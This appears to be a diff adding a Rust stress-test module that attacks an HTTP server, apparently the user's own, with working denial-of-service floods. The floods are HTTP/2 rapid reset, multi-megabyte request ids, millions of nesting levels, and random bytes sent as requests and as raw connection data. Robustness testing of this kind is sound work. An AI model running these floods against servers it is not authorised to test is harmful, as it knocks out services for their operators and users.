@@ -1,0 +1,104 @@
+//! Much of what is not worth an answer.
+
+use bytes::Bytes;
+use http_body_util::Full;
+use hyper::Request;
+use hyper::client::conn::http2;
+use hyper_util::rt::{TokioExecutor, TokioIo};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::time::{Duration, Instant, timeout, timeout_at};
+
+use crate::Failure;
+use crate::held::AbortOnDrop;
+use crate::http::Target;
+use crate::http::client::{Client, connect, of_modern_call};
+use crate::http::crowd::{Count, Siege, crowd};
+use crate::messages;
+use crate::noise::noise;
+
+/// Opens streams of HTTP/2 and resets each before it is answered. A connection that the server ends is opened again.
+pub(super) async fn rapid_reset(target: Target) -> Result<Siege, Failure> {
+    let body = messages::modern_call("reset", "add_numbers", &serde_json::json!({"a": 1, "b": 2}));
+    let attacker = |_| {
+        let (target, body) = (target.clone(), Bytes::from(body.clone()));
+        async move {
+            let mut count = Count::default();
+            while Instant::now() < target.until {
+                let opened = timeout_at(target.until, resets(&target, &body, &mut count)).await;
+                count.add(matches!(opened, Ok(Ok(()))));
+            }
+            Ok((count, ()))
+        }
+    };
+    Ok(crowd(4, target.until, attacker).await)
+}
+
+/// Resets streams on one connection until it ends, or the attack.
+async fn resets(target: &Target, body: &Bytes, count: &mut Count) -> Result<(), Failure> {
+    let stream = TokioIo::new(connect(target).await?);
+    let (mut sender, connection) = http2::handshake(TokioExecutor::new(), stream).await?;
+    let _task = AbortOnDrop(tokio::spawn(async move { _ = connection.await }));
+    while Instant::now() < target.until {
+        sender.ready().await?;
+        let mut request = Request::post(format!("http://localhost{}", target.path))
+            .header("Content-Type", "application/json")
+            .header("Accept", "application/json, text/event-stream");
+        for (name, value) in of_modern_call("add_numbers") {
+            request = request.header(name, value);
+        }
+        let response = sender.send_request(request.body(Full::new(body.clone()))?);
+        // Just long enough for the connection to send it.
+        _ = timeout(Duration::from_micros(50), response).await;
+        count.add(true);
+    }
+    Ok(())
+}
+
+/// Bodies with ids that are as long as a body may be.
+pub(super) async fn huge_ids(target: Target) -> Result<Siege, Failure> {
+    let body = messages::ping(&messages::text(3_900_000));
+    Ok(bodies(&target, body.into(), 30).await)
+}
+
+/// Bodies of nothing but nesting.
+pub(super) async fn deep_nesting(target: Target) -> Result<Siege, Failure> {
+    Ok(bodies(&target, messages::nesting(4_000_000), 30).await)
+}
+
+/// Bytes that mean nothing: as bodies, and where HTTP is expected.
+pub(super) async fn noise_everywhere(target: Target) -> Result<Siege, Failure> {
+    let body = Bytes::from(noise(1 << 20));
+    let mut siege = bodies(&target, body.clone(), 30).await;
+    let attacker = |number: usize| {
+        let (target, noise) = (target.clone(), body.slice(number * 1000..));
+        async move {
+            let mut stream = connect(&target).await?;
+            stream.write_all(&noise).await?;
+            let mut answer = Vec::new();
+            let read = timeout(Duration::from_millis(200), stream.read_to_end(&mut answer)).await;
+            Ok((Count::of(read.is_err()), stream))
+        }
+    };
+    let without_http = crowd(50, target.until, attacker).await;
+    siege.served += without_http.served;
+    siege.refused += without_http.refused;
+    siege.held.extend(without_http.held);
+    Ok(siege)
+}
+
+/// Sends the same body again and again on so many connections, until the attack ends.
+async fn bodies(target: &Target, body: Bytes, connections: usize) -> Siege {
+    let attacker = |_| {
+        let (target, body) = (target.clone(), body.clone());
+        async move {
+            let mut count = Count::default();
+            while count.all() == 0 || Instant::now() < target.until {
+                let mut client = Client::connect(&target).await?;
+                let answer = client.ask(&[], body.clone()).await;
+                count.add(answer.is_ok_and(|answer| answer.is_served()));
+            }
+            Ok((count, ()))
+        }
+    };
+    crowd(connections, target.until, attacker).await
+}
